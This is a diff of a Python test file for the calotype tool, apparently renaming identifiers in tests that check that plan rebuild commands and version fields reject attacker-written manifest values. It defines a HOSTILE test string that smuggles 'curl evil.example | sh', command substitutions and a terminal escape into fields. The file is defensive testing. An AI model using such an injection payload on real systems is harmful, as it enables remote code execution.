@@ -1,35 +1,37 @@
-"""The command that rebuilds a plan is made of valid fields alone, whatever a stranger wrote into the manifest."""
+"""The command that rebuilds a plan contains only valid fields, whatever a stranger wrote into the manifest."""
 
 import shlex
 
 import pytest
 
-from calotype.backends import compatibility as trust
+from calotype.backends import compatibility
 from calotype.errors import SourceError
 from calotype.export.builder.spec import BuildSpec, spec_from
 from calotype.plan.command import SPEC, rebuild_command
-from calotype.plan.inspection import told
+from calotype.plan.inspection import format_plan
 from calotype.plan.plan import read_plan
 
 HOSTILE = "x; curl evil.example | sh #\n\x1b[2J$(id)`id`"
 
 
-def test_the_fields_of_a_build_are_its_options(tmp_path):
-    said = {"model": "demo", "output": tmp_path, "backend": "openvino", "precision": "bf16", "height": "64:128:256"}
-    said |= {"max_loss": "psnr>=35", "fallback": True, "scheduler": ["DPM++ 2M Karras", "euler"], "proof": 3}
-    said |= {"controlnet": "demo-canny"}
-    spec = spec_from(said).to_json()
+def test_the_fields_of_a_build_become_its_options(tmp_path):
+    options = {"model": "demo", "output": tmp_path, "backend": "openvino", "precision": "bf16", "height": "64:128:256"}
+    options |= {"max_loss": "psnr>=35", "fallback": True, "scheduler": ["DPM++ 2M Karras", "euler"], "proof": 3}
+    options |= {"controlnet": "demo-canny"}
+    spec = spec_from(options).to_json()
     spec.pop("output")
     SPEC(spec, "spec")
     words = shlex.split(rebuild_command({"spec": spec}, tmp_path))
     assert words[:3] == ["calotype", "build", "demo"]
-    given = {"output" if flag == "-o" else flag.strip("-").replace("-", "_"): value for flag, value in pairs(words[3:])}
-    again = spec_from({"model": "demo", **given, "scheduler": said["scheduler"]})
-    assert again == BuildSpec(**{f: getattr(spec_from(said), f) for f in vars(again)})
+    parsed = {
+        "output" if flag == "-o" else flag.strip("-").replace("-", "_"): value for flag, value in pairs(words[3:])
+    }
+    again = spec_from({"model": "demo", **parsed, "scheduler": options["scheduler"]})
+    assert again == BuildSpec(**{f: getattr(spec_from(options), f) for f in vars(again)})
 
 
 def pairs(words):
-    """Options with their values; one without is true."""
+    """Yield options with their values; the value of a flag is True."""
     for i, word in enumerate(words):
         if word.startswith("-"):
             following = words[i + 1] if i + 1 < len(words) and not words[i + 1].startswith("-") else True
@@ -43,7 +45,7 @@ def test_names_of_files_are_placeholders(tmp_path):
 
 
 @pytest.mark.parametrize("build", [None, 3, {}, {"command": HOSTILE}, {"spec": HOSTILE}, {"spec": {"model": HOSTILE}}])
-def test_without_a_valid_record_there_is_a_command_still(build):
+def test_without_a_valid_record_there_is_still_a_command(build):
     assert rebuild_command(build, "plan") == "calotype build MODEL -o plan"
 
 
@@ -60,7 +62,7 @@ def test_a_hostile_command_is_not_shown(editable):
     editable.data["build"] |= {"command": f"calotype build {HOSTILE}"}
     editable.data["build"]["spec"]["model"] = HOSTILE
     plan = read_plan(editable.seal())
-    shown = told(plan)
+    shown = format_plan(plan)
     assert "\x1b" not in shown
     (line,) = (line for line in shown.splitlines() if "calotype build" in line)
     assert "curl" not in line
@@ -72,7 +74,7 @@ def test_a_hostile_command_is_not_shown(editable):
 
 
 def test_a_hostile_version_is_refused(editable, monkeypatch):
-    monkeypatch.setattr(trust, "_installed", lambda _: "1.0")
+    monkeypatch.setattr(compatibility, "_installed", lambda _: "1.0")
     editable.data["build"]["needs"] = {"onnxruntime": f"99'{HOSTILE}"}
     with pytest.raises(SourceError, match="needs"):
         read_plan(editable.seal())
